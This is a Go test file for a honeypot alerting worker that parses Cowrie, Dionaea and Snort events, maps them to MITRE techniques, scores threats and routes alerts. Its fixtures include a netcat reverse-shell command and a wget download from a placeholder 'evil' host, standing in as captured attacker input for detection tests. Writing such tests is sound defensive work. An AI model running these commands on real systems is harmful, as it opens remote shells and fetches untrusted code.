package alerting

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/bashSunny101/VulnServer/internal/catalog"
	"github.com/bashSunny101/VulnServer/internal/correlation"
	"github.com/bashSunny101/VulnServer/internal/metrics"
	"github.com/bashSunny101/VulnServer/internal/mitre"
	"github.com/bashSunny101/VulnServer/internal/model"
	"github.com/bashSunny101/VulnServer/internal/scoring"
	"github.com/bashSunny101/VulnServer/internal/store"
	"github.com/nats-io/nats.go"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

type failingSink struct{}

func (failingSink) Append(ctx context.Context, events ...model.Event) error {
	return errors.New("disk full")
}

func newTestWorker(t *testing.T, sink EventSink, notifier Notifier) (*Worker, *store.AlertStore, *metrics.Metrics) {
	t.Helper()
	m := metrics.NewMetrics(prometheus.NewRegistry())
	router := newTestRouter(t, notifier, m)
	alerts := store.NewAlertStore(100, 1000)

	worker := NewWorker(nil, "", "analyzer", mitre.NewMapper(catalog.Default()), scoring.NewDefaultEngine(), router, alerts, sink, m, discardLogger())
	return worker, alerts, m
}

func TestParseEvent(t *testing.T) {
	tests := []struct {
		name    string
		data    string
		source  model.Source
		wantErr bool
	}{
		{"explicit source", `{"source":"Dionaea","eventid":"dionaea.connection"}`, model.SourceDionaea, false},
		{"inferred from event id", `{"eventid":"cowrie.login.failed","src_ip":"1.2.3.4"}`, model.SourceCowrie, false},
		{"inferred from alert", `{"alert_msg":"ET SCAN","priority":2}`, model.SourceSnort, false},
		{"unknown source", `{"source":"kippo"}`, "", true},
		{"no source hints", `{"src_ip":"1.2.3.4"}`, "", true},
		{"malformed", `{"eventid":`, "", true},
		{"src_ip not a string", `{"eventid":"cowrie.login.failed","src_ip":16909060}`, "", true},
		{"priority not an integer", `{"alert_msg":"ET SCAN","priority":"high"}`, "", true},
		{"abuse score out of range", `{"eventid":"cowrie.login.failed","reputation":{"abuse_confidence_score":250}}`, "", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ev, err := ParseEvent([]byte(tt.data))
			if tt.wantErr {
				assert.Error(t, err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.source, ev.Source)
		})
	}
}

func TestParseEvent_Timestamp(t *testing.T) {
	ev, err := ParseEvent([]byte(`{"eventid":"cowrie.login.failed","timestamp":"2024-03-01T12:00:00+02:00"}`))
	require.NoError(t, err)
	assert.Equal(t, time.Date(2024, 3, 1, 10, 0, 0, 0, time.UTC), ev.Timestamp)
	assert.Equal(t, time.UTC, ev.Timestamp.Location())

	ev, err = ParseEvent([]byte(`{"eventid":"cowrie.login.failed"}`))
	require.NoError(t, err)
	assert.False(t, ev.HasTimestamp())
}

func TestWorker_Process(t *testing.T) {
	notifier := &recordingNotifier{}
	sink := store.NewMemoryEventStore()
	worker, alerts, m := newTestWorker(t, sink, notifier)

	ev := &model.Event{
		Source:     model.SourceCowrie,
		SrcIP:      "1.2.3.4",
		EventID:    "cowrie.login.success",
		Reputation: model.Reputation{InBlocklist: true},
		Timestamp:  time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC),
	}

	scoredEvent, decision, err := worker.Process(context.Background(), ev)
	require.NoError(t, err)

	assert.Equal(t, 80, scoredEvent.Score.ThreatScore)
	assert.Equal(t, scoring.SeverityCritical, scoredEvent.Score.Severity)
	assert.Contains(t, scoredEvent.Event.MitreTechniques, "T1078")

	require.True(t, decision.Routed())
	assert.Equal(t, model.AlertHigh, decision.Alert.Level)
	assert.Equal(t, []string{"email", "telegram"}, notifier.channels())
	assert.Len(t, alerts.List(), 1)

	stored, err := sink.Query(context.Background(), correlation.Query{IP: "1.2.3.4"})
	require.NoError(t, err)
	require.Len(t, stored, 1)
	assert.Contains(t, stored[0].MitreTechniques, "T1078")

	assert.Equal(t, 1.0, testutil.ToFloat64(m.EventsScoredTotal.WithLabelValues("critical")))
	assert.Equal(t, 1.0, testutil.ToFloat64(m.TechniqueMatchesTotal.WithLabelValues("TA0001")))
	assert.Equal(t, 1.0, testutil.ToFloat64(m.AlertsInStore))
}

func TestWorker_Process_KeepsExistingTechniques(t *testing.T) {
	worker, _, _ := newTestWorker(t, nil, &recordingNotifier{})

	ev := &model.Event{Source: model.SourceCowrie, EventID: "cowrie.login.failed", MitreTechniques: []string{"T9999", "T1110"}}
	scoredEvent, decision, err := worker.Process(context.Background(), ev)
	require.NoError(t, err)

	assert.Equal(t, []string{"T9999", "T1110"}, scoredEvent.Event.MitreTechniques)
	assert.False(t, decision.Routed())
}

func TestWorker_Process_SinkFailureStillRoutes(t *testing.T) {
	notifier := &recordingNotifier{}
	worker, alerts, _ := newTestWorker(t, failingSink{}, notifier)

	ev := &model.Event{Source: model.SourceCowrie, SrcIP: "1.2.3.4", EventID: "cowrie.command.input", Input: "nc -e /bin/sh 1.1.1.1 4444"}
	_, decision, err := worker.Process(context.Background(), ev)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "disk full")

	require.True(t, decision.Routed())
	assert.Equal(t, model.AlertCritical, decision.Alert.Level)
	assert.Len(t, alerts.List(), 1)
}

func TestWorker_HandleMessage(t *testing.T) {
	notifier := &recordingNotifier{}
	worker, _, m := newTestWorker(t, store.NewMemoryEventStore(), notifier)

	worker.handleMessage(context.Background(), &nats.Msg{Subject: DefaultEventSubject, Data: []byte(`not json`)})
	assert.Equal(t, 1.0, testutil.ToFloat64(m.EventsInvalidTotal))
	assert.Equal(t, 0.0, testutil.ToFloat64(m.EventsProcessedTotal))

	worker.handleMessage(context.Background(), &nats.Msg{
		Subject: DefaultEventSubject,
		Data:    []byte(`{"eventid":"cowrie.session.file_download","src_ip":"9.9.9.9","input":"wget http://evil/x"}`),
	})
	assert.Equal(t, 1.0, testutil.ToFloat64(m.EventsProcessedTotal))
}

func TestWorker_MessagesAfterShutdownStillDeliver(t *testing.T) {
	notifier := &recordingNotifier{}
	sink := store.NewMemoryEventStore()
	worker, alerts, m := newTestWorker(t, sink, notifier)

	subCtx, cancel := context.WithCancel(context.Background())
	procCtx, procCancel := processingContext(subCtx)
	defer procCancel()
	handler := worker.messageHandler(procCtx)

	// the subscription is shutting down while buffered messages drain
	cancel()
	handler(&nats.Msg{
		Subject: DefaultEventSubject,
		Data:    []byte(`{"eventid":"cowrie.login.success","src_ip":"1.2.3.4","reputation":{"in_blocklist":true}}`),
	})

	assert.Equal(t, []string{"email", "telegram"}, notifier.channels())
	assert.Len(t, alerts.List(), 1)
	assert.Equal(t, 1, sink.Len())
	assert.Equal(t, 1.0, testutil.ToFloat64(m.EventsProcessedTotal))
	assert.Equal(t, 0.0, testutil.ToFloat64(m.NotifyErrorsTotal.WithLabelValues("email")))
}

func TestWorker_Process_CancelledDeliveryNotStored(t *testing.T) {
	notifier := &recordingNotifier{}
	worker, alerts, _ := newTestWorker(t, nil, notifier)

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	ev := &model.Event{Source: model.SourceCowrie, SrcIP: "1.2.3.4", EventID: "cowrie.login.success", Reputation: model.Reputation{InBlocklist: true}}
	_, decision, err := worker.Process(ctx, ev)
	require.ErrorIs(t, err, context.Canceled)
	assert.False(t, decision.Routed())
	assert.Empty(t, alerts.List())

	ev = &model.Event{Source: model.SourceCowrie, SrcIP: "1.2.3.4", EventID: "cowrie.login.success", Reputation: model.Reputation{InBlocklist: true}}
	_, decision, err = worker.Process(context.Background(), ev)
	require.NoError(t, err)
	assert.True(t, decision.Routed())
	assert.Len(t, alerts.List(), 1)
}
